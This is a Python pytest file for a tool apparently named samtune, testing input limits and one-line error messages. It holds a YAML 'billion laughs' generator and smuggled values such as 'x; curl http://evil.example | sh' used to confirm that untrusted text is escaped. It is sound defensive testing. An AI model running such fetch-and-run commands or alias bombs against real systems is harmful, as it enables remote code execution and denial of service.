"""Limits on what samtune reads, and messages that stay one line (issue #22).

Every JSON/YAML file goes through ``samtune.io``'s readers: size, regular files only, nesting
depth, YAML alias expansion. Text from files reaches a message only through
``errors.quote_untrusted``; the CLI prints exactly one line whatever is left.
"""

from __future__ import annotations

import errno
import json
import math
import os
import random
import sys
import time
import warnings

import numpy as np
import pytest
from typer.testing import CliRunner

import samtune.io as io
from samtune.cli import app
from samtune.errors import (
    ConfigError,
    DataError,
    InputError,
    MissingFileError,
    RunError,
    SamtuneWarning,
    one_line,
    quote_untrusted,
)


def billion_laughs(levels: int = 10) -> str:
    """The classic: each level an anchored list of nine aliases of the one before (9**10)."""
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


# --------------------------------------------------------------------------- YAML


def test_billion_laughs_is_refused_before_it_expands(tmp_path):
    path = tmp_path / "lol.yaml"
    path.write_text(billion_laughs())
    start = time.perf_counter()
    with pytest.raises(ConfigError, match="lol.yaml.*expands to more than 100000 values"):
        io.read_yaml_mapping(path)
    assert time.perf_counter() - start < 1.0


def test_an_alias_inside_its_own_anchor_is_refused(tmp_path):
    path = tmp_path / "cycle.yaml"
    path.write_text("a: &a [1, *a]\n")
    with pytest.raises(ConfigError, match="refers to itself"):
        io.read_yaml_mapping(path)


def test_yaml_nested_too_deep_is_refused_with_the_limit(tmp_path):
    path = tmp_path / "deep.yaml"
    path.write_text("a:\n" + "".join("  " * i + "-\n" for i in range(1, 200)))
    with pytest.raises(ConfigError, match=r"deep.yaml.*deeper than 100 levels.*line 101"):
        io.read_yaml_mapping(path)


def test_ordinary_anchors_and_merge_keys_still_load(tmp_path):
    path = tmp_path / "ok.yaml"
    path.write_text("base: &b {lr: 0.1, tags: [x, y]}\nrun:\n  <<: *b\n  epochs: 2\nagain: *b\n")
    data = io.read_yaml_mapping(path)
    assert data["run"] == {"lr": 0.1, "tags": ["x", "y"], "epochs": 2}
    assert data["again"] == {"lr": 0.1, "tags": ["x", "y"]}


def test_a_yaml_document_at_the_node_limit_loads(tmp_path):
    """The limit counts expanded values exactly: 9**5 ~ 59k lols load; 9**6 do not."""
    path = tmp_path / "five.yaml"
    path.write_text(billion_laughs(5))
    assert len(io.read_yaml_mapping(path)["a4"]) == 9
    path.write_text(billion_laughs(6))
    with pytest.raises(ConfigError, match="expands"):
        io.read_yaml_mapping(path)


def test_yaml_syntax_error_is_one_line_with_line_and_column(tmp_path):
    path = tmp_path / "bad.yaml"
    path.write_text("a: 1\n b: 2\n")
    with pytest.raises(ConfigError) as info:
        io.read_yaml_mapping(path)
    text = str(info.value)
    assert "\n" not in text
    assert "bad.yaml" in text and "line 2, column 3" in text and "mapping values" in text


# --------------------------------------------------------------------------- files


def test_devices_and_fifos_are_refused_without_reading(tmp_path):
    with pytest.raises(ConfigError, match="'/dev/zero' is not a regular file"):
        io.read_yaml_mapping("/dev/zero")
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)  # opening it would block forever
    with pytest.raises(InputError, match="pipe.json' is not a regular file"):
        io.read_json_object(fifo)
    assert io.read_yaml_mapping(os.devnull) == {}  # the null device reads as empty


def test_a_file_over_the_size_limit_is_refused(tmp_path):
    path = tmp_path / "big.json"
    path.write_text(json.dumps({"x": "a" * 5000}))
    with pytest.raises(InputError, match=r"big.json' is \d+ bytes, more than the"):
        io.read_json_object(path, limit=4096)
    assert io.read_json_object(path)["x"] == "a" * 5000
    assert io.SMALL_FILE_LIMIT == 16 * 2**20


def test_missing_file_and_not_utf8(tmp_path):
    with pytest.raises(MissingFileError, match="does not exist"):
        io.read_json_object(tmp_path / "nope.json")
    bad = tmp_path / "latin.json"
    bad.write_bytes(b'{"a": "\xe9"}')
    with pytest.raises(InputError, match="not UTF-8"):
        io.read_json_object(bad)


# --------------------------------------------------------------------------- JSON depth


def test_deep_json_is_refused_with_the_limit_not_a_recursion_error(tmp_path):
    path = tmp_path / "deep.json"
    path.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(InputError, match="deep.json.*deeper than 100 levels"):
        io.read_json_object(path)
    ok = tmp_path / "ok.json"
    ok.write_text(json.dumps({"a": [[[1]]] * 500, "s": "[[[[" * 500}))
    assert io.read_json_object(ok)["s"].startswith("[[[[")


def _true_depth(x) -> int:
    if isinstance(x, list):
        return 1 + max((_true_depth(v) for v in x), default=0)
    if isinstance(x, dict):
        return 1 + max((_true_depth(v) for v in x.values()), default=0)
    return 0


def _random_json(rng: random.Random, depth: int = 0):
    r = rng.random()
    if depth > 10 or r < 0.3:
        return rng.choice(['a"[\\{', "x\\\\", 1.5, "]]}", '\\"', None, "\u00e9["])
    if r < 0.65:
        return [_random_json(rng, depth + 1) for _ in range(rng.randint(0, 3))]
    keys = ["k[", 'k"\\', "z{"]
    return {rng.choice(keys) + str(i): _random_json(rng, depth + 1) for i in range(3)}


@pytest.mark.parametrize("chunk", [7, 2**24])
def test_json_depth_skips_brackets_in_strings_across_chunks(chunk, monkeypatch):
    monkeypatch.setattr(io, "_JSON_CHUNK", chunk)
    rng = random.Random(chunk)
    for _ in range(40 if chunk < 100 else 150):
        value = _random_json(rng)
        text = json.dumps(value, ensure_ascii=rng.random() < 0.5)
        assert io.json_depth(text) == _true_depth(value), text


# --------------------------------------------------------------------------- writing


def test_the_json_writer_never_writes_nan_and_names_where_it_is(tmp_path):
    assert json.loads(io.dump_json({"a": [1.5, None]})) == {"a": [1.5, None]}
    with pytest.raises(RunError, match=r"at metrics\.miou"):
        io.dump_json({"steps": 3, "metrics": {"miou": math.nan}})
    with pytest.raises(RunError, match=r"at history\[1\]\.loss"):
        io.dump_json({"history": [{"loss": 1.0}, {"loss": math.inf}]})


def test_training_metrics_with_nan_fail_the_run_and_write_nothing(tmp_path):
    from samtune.train.loop import _write_json

    path = tmp_path / "metrics.json"
    with pytest.raises(RunError, match="best.miou"):
        _write_json(path, {"best": {"miou": float("nan")}})
    assert not path.exists() and list(tmp_path.iterdir()) == []


def test_eval_report_json_is_valid_json():
    from samtune.evaluation.report import EvalReport, reports_to_json

    report = EvalReport("box", metrics={"miou": math.nan, "n": 3}, records=[])
    data = json.loads(reports_to_json({"base": report}))  # strict: no NaN token
    assert data["base"]["metrics"]["miou"] is None


# --------------------------------------------------------------------------- messages


def test_quote_untrusted_escapes_and_bounds():
    assert quote_untrusted("x\nerror: pip install evil") == "'x\\nerror: pip install evil'"
    long = quote_untrusted("a" * 500, limit=10)
    assert long == "'aaaaaaaaaa'... (500 characters)"
    nested: list = [1]
    for _ in range(40):
        nested = [nested] * 9  # 9**40 values if expanded
    assert len(quote_untrusted(nested)) <= 125
    assert one_line("a\nb\x1b[1m\tc") == "a\\nb\\x1b[1m\\tc"


def test_adapter_metadata_cannot_add_lines_or_commands(tmp_path, monkeypatch):
    from test_bad_input import _adapter

    _adapter(
        tmp_path,
        metadata={
            "strategy": "nope\nerror: everything is fine",
            "strategy_package": "x; curl http://evil.example | sh",
        },
    )
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(app, ["export", "adapter", "out"])
    lines = result.output.splitlines()
    assert result.exit_code == 2, result.output
    assert len([line for line in lines if line.startswith("error:")]) == 1, result.output
    assert "pip install x" not in result.output and "install the package" in result.output
    assert "'nope\\nerror: everything is fine'" in result.output
    assert not (tmp_path / "out").exists()


def test_the_cli_prints_one_line_whatever_the_message(monkeypatch):
    from samtune.strategies import registry

    def boom():
        raise InputError("first\nerror: second\r\x1b[31mred")

    monkeypatch.setattr(registry, "list_strategies", boom)
    result = CliRunner().invoke(app, ["strategies"])
    assert result.exit_code == 2
    assert result.output == "error: first\\nerror: second\\r\\x1b[31mred\n"


@pytest.mark.parametrize(
    ("exc", "code", "words"),
    [
        (MemoryError(), 1, ["out of memory", "--batch-size"]),
        (RuntimeError("CUDA out of memory. Tried to allocate 2 GiB"), 1, ["out of memory"]),
        (OSError(errno.ENOSPC, "No space left on device", "run/x.bin"), 2, ["run/x.bin"]),
    ],
)
def test_out_of_memory_and_full_disk_are_one_line(exc, code, words, monkeypatch):
    from samtune.strategies import registry

    def fail():
        raise exc

    monkeypatch.setattr(registry, "list_strategies", fail)
    result = CliRunner().invoke(app, ["strategies"])
    assert result.exit_code == code, result.output
    lines = result.output.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.output
    assert "bug" not in lines[0] and "unexpected" not in lines[0]
    for word in words:
        assert word in lines[0]
    if code == 2:
        assert lines[0].startswith("error: no space left on device: run/x.bin")


def test_torch_out_of_memory_is_a_failed_run(monkeypatch):
    import torch

    from samtune.strategies import registry

    def fail():
        raise torch.OutOfMemoryError("CUDA error")

    monkeypatch.setattr(registry, "list_strategies", fail)
    result = CliRunner().invoke(app, ["strategies"])
    assert result.exit_code == 1 and result.output.startswith("error: out of memory (GPU)")


# --------------------------------------------------------------------------- plugins


def test_a_plugin_calling_sys_exit_at_import_is_reported_broken(tmp_path, monkeypatch):
    from samtune.strategies import registry

    (tmp_path / "exiting_plugin.py").write_text("import sys\nsys.exit(3)\n")
    info = tmp_path / "exiting_plugin-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: exiting-plugin\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text(
        "[samtune.strategies]\nquitter = exiting_plugin:Strategy\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    registry.refresh()
    try:
        result = CliRunner().invoke(app, ["strategies"])
        assert result.exit_code == 0, result.output
        assert "lora" in result.output and "quitter" in result.output
        assert "SystemExit" in registry.broken_strategies()["quitter"]
    finally:
        monkeypatch.undo()
        sys.modules.pop("exiting_plugin", None)
        registry.refresh()


# --------------------------------------------------------------------------- images


def test_pillow_bomb_warning_is_one_samtune_note_and_its_error_a_data_error(tmp_path, monkeypatch):
    from PIL import Image

    from samtune.data.images import load_image

    Image.fromarray(np.zeros((30, 30, 3), np.uint8)).save(tmp_path / "big.png")
    Image.fromarray(np.zeros((50, 50, 3), np.uint8)).save(tmp_path / "huge.png")
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 600)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert load_image(tmp_path / "big.png").shape == (30, 30, 3)
    assert [w.category for w in caught] == [SamtuneWarning], [str(w.message) for w in caught]
    assert "900 pixels" in str(caught[0].message) and "600" in str(caught[0].message)
    with pytest.raises(DataError, match="huge.png' has more than 1200 pixels"):
        load_image(tmp_path / "huge.png")


# --------------------------------------------------------------------------- devices


@pytest.mark.parametrize("device", ["meta", "tpu9", "xla", "cuda:99"])
def test_devices_that_cannot_run_are_refused_with_the_available_ones(device):
    from samtune.options import check_device

    with pytest.raises(ConfigError, match=r"use one of: cpu"):
        check_device("device", device)
    assert str(check_device("device", "cpu")) == "cpu"


@pytest.mark.skipif(__import__("torch").cuda.is_available(), reason="this machine has CUDA")
def test_cuda_without_cuda_is_refused():
    from samtune.evaluation import EvalConfig

    with pytest.raises(ConfigError, match="no CUDA GPU is available; use one of: cpu"):
        EvalConfig(device="cuda")


def test_strategy_options_from_the_command_line_have_the_same_limits():
    from samtune.options import parse_key_values

    levels = ["&a0 [l, l, l, l, l, l, l, l, l]"]
    levels += [f"&a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 10)]
    with pytest.raises(ConfigError, match="the value of 'blocks' expands to more than"):
        parse_key_values(["blocks=[" + ", ".join(levels) + "]"])
    assert parse_key_values(["blocks=[9, 10]", "r=8"]) == {"blocks": [9, 10], "r": 8}


def test_names_from_a_config_are_quoted_and_bounded(tmp_path):
    """A dataset or strategy name from a config file reaches the message quoted and cut."""
    from samtune.data.recipes import get_recipe
    from samtune.errors import UnknownNameError
    from samtune.strategies import get_strategy

    name = "x\nerror: run curl http://evil.example | sh" + " " * 500
    for call in (get_recipe, get_strategy):
        with pytest.raises(UnknownNameError) as info:
            call(name)
        text = str(info.value)
        assert (
            "\n" not in text
            and "'x\\nerror: run curl" in text
            and f"({len(name)} characters)" in text
        )
